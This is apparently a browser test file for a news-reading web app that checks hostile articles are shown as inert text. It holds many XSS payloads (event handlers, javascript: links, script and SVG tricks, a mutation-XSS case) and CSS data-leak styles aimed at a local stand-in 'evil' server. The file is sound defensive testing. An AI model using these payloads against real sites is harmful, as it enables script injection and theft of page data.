import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import type { Page } from "playwright-core";
import { afterAll, beforeAll, expect, test } from "vitest";
import type { AddAnswer, DocumentAnswer, DocumentsAnswer, EventsAnswer, ReadAnswer } from "../../../src/desk/api.ts";
import { inBrowser, settled, until } from "./session.ts";

// An article is written by anyone, and may be written against its reader. Whatever it holds is shown and does nothing.

const caught: string[] = [];
/** Where hostile pages try to send what they find: it answers on this machine, so that only the desk keeps them from it. */
const elsewhere = createServer((request, response) => { caught.push(request.url ?? ""); response.end("1"); });
let evil = "";
beforeAll(async () => {
  await new Promise<void>((resolve) => elsewhere.listen(0, "127.0.0.1", resolve));
  evil = `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}`;
});
afterAll(() => elsewhere.close());

const said = (who: string) => `At least 12 soldiers were killed on Saturday when militants attacked an army checkpoint in Deir ez-Zor, ${who} said.`;
/** Mark-up in every place of a page that ends up on the screen, as text and as elements. */
const HOSTILE = (evil: string) => `<!doctype html><html lang="en" onclick="hit()"><head>
<base href="${evil}/"><meta http-equiv="refresh" content="0;url=${evil}/refresh"><link rel="stylesheet" href="${evil}/style.css"><link rel="prefetch" href="${evil}/prefetch">
<title>&lt;img src=x onerror="globalThis.hit=1"&gt; Fighting near the river</title>
<meta property="og:site_name" content="&quot;&gt;&lt;script&gt;globalThis.hit=2&lt;/script&gt; The Example Courier">
<meta name="author" content="&lt;svg onload=globalThis.hit=3&gt;"><meta property="article:published_time" content="2019-03-04">
<style>@import url("${evil}/import.css"); input[value^="a"] { background: url("${evil}/leak?a") } body { background: url("${evil}/body") } * { display: none !important }</style>
<script>globalThis.hit=4; fetch("${evil}/script"); alert(4)</script></head>
<body onload="globalThis.hit=5"><article><h1>&lt;img src=x onerror="globalThis.hit=6"&gt; Fighting near the river</h1>
<p>${said('<b onmouseover="globalThis.hit=7">the Syrian Observatory for Human Rights</b>')} <img src="${evil}/image.png" onerror="globalThis.hit=8"> {{constructor.constructor("hit=9")()}} {@html hit}</p>
<p>${said("&lt;iframe src=&quot;javascript:alert(10)&quot;&gt;&lt;/iframe&gt; the Syrian Observatory for Human Rights")}</p>
<svg onload="globalThis.hit=11"><script>globalThis.hit=12</script><a href="javascript:alert(13)"><text>The fighting went on near the river all day, as residents said.</text></a></svg>
<iframe srcdoc="&lt;script&gt;parent.hit=14&lt;/script&gt;"></iframe><object data="${evil}/object"></object><video src="${evil}/video" autoplay></video>
<form action="${evil}/form"><input autofocus onfocus="globalThis.hit=15"><button formaction="javascript:alert(16)">Read on</button></form>
<p><a href="javascript:globalThis.hit=17">The army said it had repelled the attack near the river.</a> &lt;/p&gt;&lt;/mark&gt;&lt;script&gt;globalThis.hit=18&lt;/script&gt;</p>
<p>SOURCE: &lt;a href=javascript:alert(19)&gt;Example&lt;/a&gt;</p></article></body></html>`;

/** The same as words of a report that is no page. */
const WORDS = (evil: string) => `Fighting near the river <script>globalThis.hit=21</script>\n\nThe Example Courier, 4 March 2019 <svg onload="globalThis.hit=22">\n\n${said('<img src="' + evil + '/x" onerror="globalThis.hit=23"> the Syrian Observatory for Human Rights')}\n\n${said("</mark></p><iframe src=javascript:alert(24)></iframe> the Syrian Observatory for Human Rights")}\n\n<style>* { display: none; background: url(${evil}/y) }</style>\n\nSOURCE: <a href="javascript:alert(25)">Example</a>\n`;

const RLO = "\u202e", PDF = "\u202c", LRI = "\u2066", ZW = "\u200b";
const BIDI = `${RLO}Fighting near the river\n\nThe Example Courier, 4 March 2019\n\n${said(`${RLO}the Syrian Observatory for Human Rights`)}\n\n${LRI}${LRI}${LRI}${said(`the ${ZW}Syrian Observatory${PDF}${PDF} for Human Rights`)}\n`;
const LINE = `Fighting near the river\n\n${said("the Syrian Observatory for Human Rights")} ${"and on and on, ".repeat(35_000)}${"x".repeat(500_000)}`;
/** Five million characters without a line break, most of them one word. */
const LONG_LINE = `Fighting near the river\n\n${said("the Syrian Observatory for Human Rights")} ${"and on and on, ".repeat(20_000)}${"x".repeat(4_700_000)}`;
/** Styles that send home what is on the page, or cover it; with them marks that only a style brings to life. */
const STYLED = (evil: string) => `<!doctype html><html><head><title>Fighting near the river</title><style>
@font-face { font-family: leak; src: url("${evil}/font?A"); unicode-range: U+41 } @import "${evil}/second.css"; :root { --paper: url("${evil}/var"); background: url("${evil}/root") }
input[value^="s"] ~ * { background: url("${evil}/attr?s") } a:visited { background: url("${evil}/visited") } body:has(mark) { background: image-set("${evil}/has" 1x) }
main { position: fixed; inset: 0; z-index: 9999; cursor: url("${evil}/cursor"), auto } p::after { content: url("${evil}/after") } @property --x { syntax: "<url>"; inherits: false; initial-value: url("${evil}/property") }
</style><link rel=preload as=style href="${evil}/preload" onload="globalThis.hit=41"></head><body style="background:url(${evil}/inline)"><article><h1>Fighting near the river</h1>
<p style="font-family: leak; position: fixed; inset: 0; background: url('${evil}/p')">${said("the Syrian Observatory for Human Rights")}</p><p class="skip chosen pointed" id="content">The army said it had repelled the attack near the river, and sent more men there on Sunday.</p></article></body></html>`;
/** A drawing in the place of a page, with all that can run in one. */
const DRAWN = (evil: string) => `<!doctype html><html><head><title>Fighting near the river</title></head><body><article><h1>Fighting near the river</h1><p>${said("the Syrian Observatory for Human Rights")}</p>
<svg xmlns="http://www.w3.org/2000/svg" onload="globalThis.hit=51"><style>@import url(${evil}/svg.css);</style><use href="${evil}/use.svg#x"/><image href="${evil}/image.svg"/><feImage href="${evil}/fe"/>
<a href="javascript:globalThis.hit=52"><text>The fighting went on near the river all day, as residents said.</text></a><animate attributeName="href" values="javascript:globalThis.hit=53" onbegin="globalThis.hit=54"/><set attributeName="onmouseover" to="globalThis.hit=55"/>
<foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="globalThis.hit=56"><img src="${evil}/foreign" onerror="globalThis.hit=57"/><p>The army said it had repelled the attack near the river.</p></body></foreignObject><script href="${evil}/svg.js">globalThis.hit=58</script></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=globalThis.hit=59&gt;"></mglyph></table></mtext></math></article></body></html>`;
const NESTED = `<!doctype html><html><head><title>Fighting near the river</title></head><body>${"<div><blockquote><ul><li><span>".repeat(4_000)}<p>${said("the Syrian Observatory for Human Rights")}</p></body></html>`;

await inBrowser("a hostile article", { examples: false }, (desk) => {
  const cases = (): [name: string, type: string, content: string][] => [["markup.html", "text/html", HOSTILE(evil)], ["markup.txt", "text/plain", WORDS(evil)], ["bidi.txt", "text/plain", BIDI], ["line.txt", "text/plain", LINE], ["nested.html", "text/html", NESTED],
    ["styled.html", "text/html", STYLED(evil)], ["drawn.html", "text/html", DRAWN(evil)], ["long-line.txt", "text/plain", LONG_LINE]];

  /** Nothing ran, nothing loaded, nothing left its frame, and the page is still the desk's. */
  async function inert(page: Page): Promise<void> {
    expect(await page.evaluate(() => (globalThis as { hit?: number }).hit)).toBeUndefined();
    expect(page.frames()).toHaveLength(1);
    expect(new URL(page.url()).origin).toBe(desk.url);
    const alien = await page.evaluate(() => [...document.querySelectorAll("main script, main img, main iframe, main object, main video, main style, main link, main form:not(.filters form, dialog form, .correction), main base, main meta, main [srcdoc], main [style*=url]")]
      .concat([...document.querySelectorAll("*")].filter((element) => [...element.attributes].some(({ name, value }) => name.startsWith("on") || (/^(href|src|action|formaction)$/u.test(name) && !/^[/#]/u.test(value)))))
      .filter((element) => !element.closest("head")).map((element) => element.outerHTML.slice(0, 200)));
    expect(alien).toEqual([]);
    expect(await page.evaluate(() => document.documentElement.scrollWidth <= innerWidth)).toBe(true);
    expect(caught).toEqual([]);
  }

  test.each([0, 1, 2, 3, 4, 5, 6, 7])("of kind %i is inert before it is kept, and after", async (kind) => {
    const [name, mimeType, content] = cases()[kind]!;
    const page = await desk.page();
    await desk.visit(page, "/add");
    const answered = page.waitForResponse((response) => response.url().endsWith("/api/read"));
    await page.locator("input[type=file]").setInputFiles([{ name, mimeType, buffer: Buffer.from(content) }]);
    const read = await (await answered).json() as ReadAnswer;
    await page.locator(".text").waitFor();
    await settled(page);
    expect(read.claims.length, name).toBeGreaterThan(0);
    for (const number of (await page.locator(".number").all()).slice(0, 2)) {
      await number.click();
      await inert(page);
    }
    await page.getByRole("button", { name: "Keep", exact: true }).click();
    await page.locator(".keep strong").waitFor();

    await desk.visit(page, `/documents/${read.document.id}`);
    await page.locator(".number").first().click();
    await page.locator("aside .chain").waitFor();
    await inert(page);
    // What was hostile is there, as words.
    const { document, claims } = await desk.api<DocumentAnswer>(`documents/${encodeURIComponent(read.document.id)}`);
    if (name.startsWith("markup")) expect(await page.locator(".text").textContent()).toContain("onerror=");
    for (const claim of claims) expect((await page.locator(`mark[data-claims~="${claim.id}"]`).allTextContents()).join("")).toBe(claim.span.exact);
    expect(document.text.length).toBeGreaterThan(100);

    await page.getByRole("button", { name: "Show the original beside" }).click();
    await until(() => page.locator(".original pre").textContent()).toContain("the Syrian Observatory");
    expect(await page.locator(".original pre *").count()).toBe(0);
    await inert(page);

    await page.context().close();
  });

  test("pasted, a line of a million characters is read and shown within the page", async () => {
    const page = await desk.page({ viewport: { width: 360, height: 800 } });
    await desk.visit(page, "/add");
    await page.locator("textarea").fill(`${LINE} pasted`);
    await page.locator("mark").first().waitFor();
    await inert(page);
    await page.context().close();
  });

  test("nothing of them does anything in the situation, the list of articles or an event", async () => {
    const { events } = await desk.api<EventsAnswer>("events");
    const { documents } = await desk.api<DocumentsAnswer>("documents");
    expect(documents.length).toBe(cases().length);
    const page = await desk.page();
    for (const address of ["/", "/articles", "/review", "/sources", "/embed", `/compare?a=${documents[0]!.id}&b=${documents[1]!.id}`, ...events.map(({ id }) => `/events/${id}`)]) {
      await desk.visit(page, address);
      await inert(page);
    }
    await page.context().close();
  });

  test("decisions are words, too: marks, turned letters and addresses that run do nothing in an event, its log and the queue", async () => {
    const { events: [event] } = await desk.api<EventsAnswer>("events");
    const author = `${RLO}<img src=x onerror="globalThis.hit=30">`, reason = `</q><script>globalThis.hit=31</script> ${LRI}${"long".repeat(400)}`;
    for (const more of [{ verb: "confirm" }, { verb: "evidence", value: "javascript:globalThis.hit=32" }, { verb: "evidence", value: `data:text/html,<script>globalThis.hit=33</script>${"x".repeat(900)}` }, { verb: "note" }, { verb: "merge", objects: ["evt:\"><svg onload=globalThis.hit=34>"] }, { verb: "dependent", subject: "<b>one</b>", objects: ["__proto__"] }]) {
      const response = await fetch(`${desk.url}/api/judgements`, { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify({ author, reason, subject: event!.id, ...more }) });
      expect(response.status).toBe(201);
    }
    for (const width of [1280, 360]) {
      const page = await desk.page({ viewport: { width, height: 800 } });
      await desk.visit(page, `/events/${event!.id}`);
      await page.locator(".log > li").first().waitFor();
      await inert(page);
      expect(await page.locator(".stamp").count()).toBe(1);
      expect(await page.locator(".log").textContent()).toContain("onerror=");
      await desk.visit(page, "/review");
      await inert(page);
      await page.getByRole("button", { name: "Log" }).click();
      await page.locator(".log > li").first().waitFor();
      await inert(page);
      await page.context().close();
    }
  });

  test("turned words stay in their box: nothing outside of the article changes its order", async () => {
    const { documents } = await desk.api<DocumentsAnswer>("documents");
    const turned = documents.find(({ captured_from }) => captured_from.includes("bidi"))!;
    const page = await desk.page();
    await desk.visit(page, "/articles");
    const link = page.locator(`.articles a[href="/documents/${turned.id}"]`);
    const row = link.locator("xpath=..").locator(".row");
    // The line below the hostile title still reads from left to right, one part after the other.
    const lefts = await row.locator("> *").evaluateAll((parts) => parts.map((part) => part.getBoundingClientRect().left));
    expect(lefts).toEqual([...lefts].sort((a, b) => a - b));
    expect(await link.evaluate((element) => getComputedStyle(element).unicodeBidi)).toMatch(/isolate/u);
    await page.context().close();
  });

  test("an event of theirs as one file runs nothing and loads nothing, opened from a disk as from anywhere", async () => {
    const { events } = await desk.api<EventsAnswer>("events");
    const page = await desk.page();
    for (const { id } of events) {
      const sent = await fetch(`${desk.url}/api/events/${encodeURIComponent(id)}/page`);
      await page.setContent(await sent.text());
      await page.locator("blockquote").first().waitFor();
      expect(await page.evaluate(() => (globalThis as { hit?: number }).hit)).toBeUndefined();
      expect(await page.locator("script, img, iframe, object, link, svg, form, input").count()).toBe(0);
    }
    expect(caught).toEqual([]);
    await page.context().close();
  });

  test("the original bytes of a hostile page are handed out as a download and never shown", async () => {
    const response = await fetch(`${desk.url}/api/documents`, { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify({ base64: Buffer.from(HOSTILE(evil)).toString("base64"), captured_from: "again.html", media_type: "text/html" }) });
    const { document } = await response.json() as AddAnswer;
    const page = await desk.page();
    const download = page.waitForEvent("download");
    await page.goto(`${desk.url}/api/documents/${encodeURIComponent(document)}/original`).catch((error: Error) => expect(error.message).toMatch(/Download is starting|ERR_ABORTED/u));
    expect((await download).suggestedFilename()).not.toBe("");
    expect(page.url()).toBe("about:blank");
    expect(caught).toEqual([]);
    await page.context().close();
  });

  test("this watch is awake: what a page sends elsewhere is seen, refused, and not sent", async () => {
    const page = await desk.page();
    await desk.visit(page, "/articles");
    await page.evaluate(async (url) => { await fetch(url).catch(() => undefined); }, `${evil}/awake`);
    await page.evaluate(() => { document.body.insertAdjacentHTML("beforeend", "<img src=x onerror='globalThis.hit=1'>"); });
    await until(() => desk.faults.filter((fault) => fault.startsWith("error: policy: ")).length).toBeGreaterThan(1);
    expect(await page.evaluate(() => (globalThis as { hit?: number }).hit)).toBeUndefined();
    desk.expectFault(/policy|refused|Refused|Failed to load|violates|404|Fetch API/u);
    desk.requests = [];
    expect(caught).toEqual([]);
    await page.context().close();
  });
});
